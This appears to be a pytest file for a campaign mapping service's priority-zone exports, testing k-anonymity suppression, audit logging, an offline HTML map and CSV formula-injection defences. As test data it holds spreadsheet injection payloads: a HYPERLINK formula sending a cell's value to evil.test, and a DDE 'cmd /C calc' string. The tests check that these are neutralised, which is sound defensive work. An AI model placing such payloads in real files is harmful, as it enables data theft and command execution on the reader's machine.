"""Priority-zone exports: the same k-suppression in every format, audited, offline HTML map."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import subprocess
import tempfile
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from sqlalchemy import text

from tests.fixtures_ranking import ranking_env  # noqa: F401

PARAMS = {"preset": "mobilisation", "side": "ENS"}
pytestmark = pytest.mark.filterwarnings("ignore:.*non conformant file extension:RuntimeWarning")
CHROMIUM = Path("/usr/bin/chromium")


@pytest.fixture
def env(ranking_env):  # noqa: F811
    return ranking_env


async def _get(env, ext: str, role: str = "analyst"):
    client, world, *_ = env
    return await client.get(
        world.url(f"/exports/priority-zones.{ext}"), params=PARAMS, headers=world.headers[role]
    )


def _table(ext: str, content: bytes) -> pd.DataFrame:
    if ext == "geojson":
        features = json.loads(content)["features"]
        assert {f["geometry"]["type"] for f in features} <= {"Polygon", "MultiPolygon"}
        return pd.DataFrame([f["properties"] for f in features])
    if ext == "gpkg":
        gdf = gpd.read_file(io.BytesIO(content), layer="priority_zones", engine="pyogrio")
        assert set(gdf.geom_type) <= {"Polygon", "MultiPolygon"}
        return pd.DataFrame(gdf.drop(columns="geometry"))
    if ext == "parquet":
        gdf = gpd.read_parquet(io.BytesIO(content))
        assert set(gdf.geom_type) <= {"Polygon", "MultiPolygon"}
        return pd.DataFrame(gdf.drop(columns="geometry"))
    frame = pd.read_csv(io.BytesIO(content), dtype={"code": str, "commune_code": str})
    assert frame["wkt"].str.match(r"^(MULTI)?POLYGON").all()
    return frame


def _blank(value) -> bool:
    return value is None or (isinstance(value, float) and pd.isna(value)) or value is pd.NA


@pytest.mark.parametrize("ext", ["geojson", "gpkg", "parquet", "csv"])
async def test_counts_below_k_are_blank_and_flagged_in_every_format(env, ext):
    """k = 11: C has 4 doors, A 9, B 1, D 1 -> blank + flag; households >= 11 stay; no supporter
    reaches k -> blank + flag everywhere. Rank and score are the same in every format."""
    _, _, area, _, _ = env
    r = await _get(env, ext)
    assert r.status_code == 200, r.text
    t = _table(ext, r.content).set_index("code")
    assert list(t["rank"].astype(int).sort_values().index) == [
        area.code(x) for x in ("A", "D", "B", "C")
    ]
    for letter in "ABCD":
        row = t.loc[area.code(letter)]
        assert _blank(row["doors"]) and bool(row["doors_suppressed"]), (ext, letter)
        assert _blank(row["supporters"]) and bool(row["supporters_suppressed"])
        assert not bool(row["households_suppressed"])
    assert float(t.loc[area.code("A"), "households"]) == pytest.approx(90, abs=0.1)
    assert float(t.loc[area.code("C"), "score"]) == pytest.approx(-0.967, abs=1e-3)
    assert "c_side_score" in t.columns and "c_abstention_rate" in t.columns


async def test_exports_are_audited_and_limited_to_planners(env):
    client, world, _, engine, _ = env
    async with engine.connect() as conn:
        before = (
            await conn.execute(
                text(
                    "SELECT count(*) FROM audit_event WHERE campaign_id = :c "
                    "AND action = 'export.priority_zones'"
                ),
                {"c": world.campaign_id},
            )
        ).scalar_one()
    assert (await _get(env, "csv", "organiser")).status_code == 200
    assert (await _get(env, "csv", "volunteer")).status_code == 403
    bad = await _get(env, "shp")
    assert bad.status_code == 422 and bad.json()["field"] == "format"
    async with engine.connect() as conn:
        after = (
            await conn.execute(
                text(
                    "SELECT count(*), (array_agg(object ORDER BY id DESC))[1] FROM "
                    "audit_event WHERE campaign_id = :c AND action = 'export.priority_zones'"
                ),
                {"c": world.campaign_id},
            )
        ).one()
    assert after[0] == before + 1 and after[1] == "priority-zones.csv"


def _dump_dom(page: str) -> tuple[str, str]:
    """Open the page in headless Chromium (no network) and return the DOM after scripts ran."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "zones.html"
        path.write_text(page)
        out = subprocess.run(
            [
                str(CHROMIUM),
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--no-first-run",
                f"--user-data-dir={tmp}/profile",
                "--virtual-time-budget=5000",
                "--dump-dom",
                path.as_uri(),
            ],
            capture_output=True,
            text=True,
            timeout=120,
        )
    return out.stdout, out.stderr


async def test_html_export_is_offline_and_draws_the_map_in_chromium(env):
    r = await _get(env, "html")
    assert r.status_code == 200
    page = r.text
    # No CDN: no external script or stylesheet, Leaflet is inlined.
    assert not re.search(r"<script[^>]*\ssrc=", page, re.I)
    assert not re.search(r"<link[^>]*href=[\"']?https?:", page, re.I)
    assert "L.map(" in page or "L.map (" in page
    # in French by default (the reader's language): legend, tooltips, numbers
    assert "porte-legend" in page and "Pourquoi (plus fortes contributions)" in page
    # Supporters below k are shown as hidden in the tooltips, like the blank cells elsewhere.
    hidden = r"(&lt;|<|\\u003c) 11 \(masqu(é|\\u00e9)\)"
    assert len(re.findall(hidden, page)) >= 4, page[-3000:]
    # the explanation, with French numbers: "Score de notre camp 70,0 % (1,4 écart-type ..."
    assert re.search(r"Score de notre camp \d+,\d %", page), page[-3000:]
    if not CHROMIUM.exists():  # noqa: ASYNC240
        pytest.skip("Debian chromium is not installed")
    dom, err = await asyncio.to_thread(_dump_dom, page)
    assert "leaflet-container" in dom, err[-2000:]
    # Leaflet drew the district polygons as SVG paths.
    assert re.search(r"<svg[^>]*leaflet-zoom-animated", dom) or "<svg" in dom
    assert len(re.findall(r'<path[^>]*class="leaflet-interactive"', dom)) == 4


@pytest.mark.parametrize("ext", ["gpkg", "parquet"])
async def test_a_column_blank_everywhere_keeps_its_number_type(env, ext):
    """No side chosen: the side's value is blank in every zone, yet stays a number column (GIS
    tools would otherwise read it as text)."""
    client, world, *_ = env
    r = await client.get(
        world.url(f"/exports/priority-zones.{ext}"),
        params={"preset": "mobilisation"},
        headers=world.headers["analyst"],
    )
    assert r.status_code == 200, r.text
    if ext == "gpkg":
        import pyogrio

        info = pyogrio.read_info(io.BytesIO(r.content), layer="priority_zones")
        types = dict(zip(info["fields"], info["dtypes"], strict=True))
    else:
        types = {k: str(v) for k, v in gpd.read_parquet(io.BytesIO(r.content)).dtypes.items()}
    t = _table(ext, r.content)
    assert t["v_side_score"].map(_blank).all()
    assert types["v_side_score"].lower().startswith("float"), types["v_side_score"]
    assert types["households"].lower().startswith("float"), types["households"]
    assert types["supporters"].lower().startswith("int"), types["supporters"]  # blank: < k


# ---------------------------------------------------------------- smaller holes
RISKY = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = {  # district letter -> (name, commune name) from a hostile file, and as exported
    "A": (
        ('=HYPERLINK("http://evil.test/?"&A1;"open")', "@SUM(1+1)"),
        ('\'=HYPERLINK("http://evil.test/?"&A1;"open")', "'@SUM(1+1)"),
    ),
    "B": (("+33 1 23", "-2+3+cmd|' /C calc'!A0"), ("'+33 1 23", "'-2+3+cmd|' /C calc'!A0")),
    "C": (("\tTab", "Bourg;=1+1"), ("'\tTab", "Bourg;'=1+1")),
}


def _spreadsheet_cells(content: bytes, delimiter: str) -> list[str]:
    """Every cell as a spreadsheet splits them (quotes honoured), keeping text only."""
    out = []
    for row in csv.reader(io.StringIO(content.decode("utf-8")), delimiter=delimiter):
        for value in row:
            try:
                float(value)
            except ValueError:
                out.append(value)
    return out


async def test_csv_export_cells_never_run_as_formulas(env):
    """District names come from files: a name starting with = + - @ (or tab) was written as is
    and ran in the analyst's spreadsheet. Now it starts with an apostrophe, every text cell is
    quoted (a ';' inside cannot start a new cell), and numbers stay numbers."""
    client, world, area, engine, _ = env
    async with engine.begin() as conn:
        for letter, ((name, commune), _) in FORMULAS.items():
            await conn.execute(
                text("UPDATE district SET name = :n, commune_name = :m WHERE code = :c"),
                {"n": name, "m": commune, "c": area.code(letter)},
            )
    r = await _get(env, "csv")
    assert r.status_code == 200, r.text
    for delimiter in (",", ";"):  # the file's own, and a French spreadsheet's
        risky = [c for c in _spreadsheet_cells(r.content, delimiter) if c.startswith(RISKY)]
        assert risky == [], risky
    t = _table("csv", r.content).set_index("code")
    for letter, (_, (name, commune)) in FORMULAS.items():
        assert t.loc[area.code(letter), "name"] == name
        assert t.loc[area.code(letter), "commune_name"] == commune
    # A negative score is still a number.
    assert float(t.loc[area.code("C"), "score"]) == pytest.approx(-0.967, abs=1e-3)


async def test_html_export_never_runs_on_the_app_origin(env):
    """The HTML map was served inline on the service's origin: its scripts (and any text a
    district file slipped into it) ran next to the app's tokens. Now it is a download, and a
    sandbox CSP (no allow-same-origin) keeps it in an opaque origin even if opened."""
    r = await _get(env, "html")
    assert r.status_code == 200
    assert r.headers["content-disposition"].startswith("attachment;")
    csp = [p.strip() for p in r.headers["content-security-policy"].split(";")]
    sandbox = next(p for p in csp if p.startswith("sandbox"))
    assert "allow-same-origin" not in sandbox and "allow-top-navigation" not in sandbox
    assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp
    assert not any("connect-src" in p and "'self'" in p for p in csp)


async def test_reasons_and_factor_names_in_french_by_default_english_on_request(env):
    """The same explanation in the reader's language, numbers written its way."""
    client, world, *_ = env
    url, h = world.url("/exports/priority-zones.csv"), world.headers["analyst"]
    fr = pd.read_csv(io.BytesIO((await client.get(url, params=PARAMS, headers=h)).content))
    en = pd.read_csv(
        io.BytesIO(
            (await client.get(url, params=PARAMS, headers={**h, "Accept-Language": "en"})).content
        )
    )
    assert list(fr["code"]) == list(en["code"])
    assert fr["reasons"].str.contains(r"Score de notre camp \d+,\d % \(\d+,\d écart-type").any()
    assert (
        en["reasons"].str.contains(r"Our side's score \d+\.\d % \(\d+\.\d sd (?:above|below)").any()
    )
    body = (await client.get(world.url("/weights"), headers=h)).json()
    labels = {f["name"]: f["label"] for f in body["factors"]}
    assert labels["side_score"] == "Score de notre camp"
    body = (await client.get(world.url("/weights"), headers={**h, "Accept-Language": "en"})).json()
    assert {f["name"]: f["label"] for f in body["factors"]}["side_score"] == "Our side's score"
